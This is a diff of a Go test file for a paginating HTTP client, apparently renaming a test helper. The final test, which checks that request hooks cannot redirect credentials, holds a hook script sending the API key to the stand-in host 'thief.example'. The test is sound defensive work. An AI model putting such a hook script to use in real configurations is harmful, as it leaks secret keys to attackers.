@@ -40,8 +40,8 @@ func paged(t *testing.T, client *provider.Client, p *element.Paginator, r elemen
 	return nil
 }
 
-// vendor is an instance of a vendor that answers so.
-func vendor(t *testing.T, answer http.HandlerFunc) turnstone.Instance {
+// served is an instance of a vendor that answers so.
+func served(t *testing.T, answer http.HandlerFunc) turnstone.Instance {
 	t.Helper()
 	server := httptest.NewServer(answer)
 	t.Cleanup(server.Close)
@@ -55,7 +55,7 @@ func TestTheLinkHeaderLeadsToTheNextPage(t *testing.T) {
 		"c,1":    `</items?cursor=a>; rel="prev"`,
 		"broken": `<`,
 	}
-	in := vendor(t, func(w http.ResponseWriter, r *http.Request) {
+	in := served(t, func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Link", links[r.URL.Query().Get("cursor")])
 		fmt.Fprint(w, `[1,2]`)
 	})
@@ -68,7 +68,7 @@ func TestTheLinkHeaderLeadsToTheNextPage(t *testing.T) {
 }
 
 func TestAHookNamesTheNextPage(t *testing.T) {
-	in := vendor(t, func(w http.ResponseWriter, r *http.Request) {
+	in := served(t, func(w http.ResponseWriter, r *http.Request) {
 		fmt.Fprintf(w, `{"at":%q}`, r.URL.Query().Get("at"))
 	})
 	requester := element.Requester{
@@ -85,7 +85,7 @@ func TestAHookNamesTheNextPage(t *testing.T) {
 }
 
 func TestAHookCannotLeadACredentialAstray(t *testing.T) {
-	in := vendor(t, func(http.ResponseWriter, *http.Request) { t.Error("the vendor was asked") })
+	in := served(t, func(http.ResponseWriter, *http.Request) { t.Error("the vendor was asked") })
 	requester := element.Requester{
 		URLBase: []element.Template{template(t, "{{ config['base.url'] }}")}, Path: template(t, "/items"),
 		Hooks: &element.Hooks{Before: []element.Hook{{Script: `done({request_vendor_path: 'https://thief.example/' + configuration['api.key']});`}}},
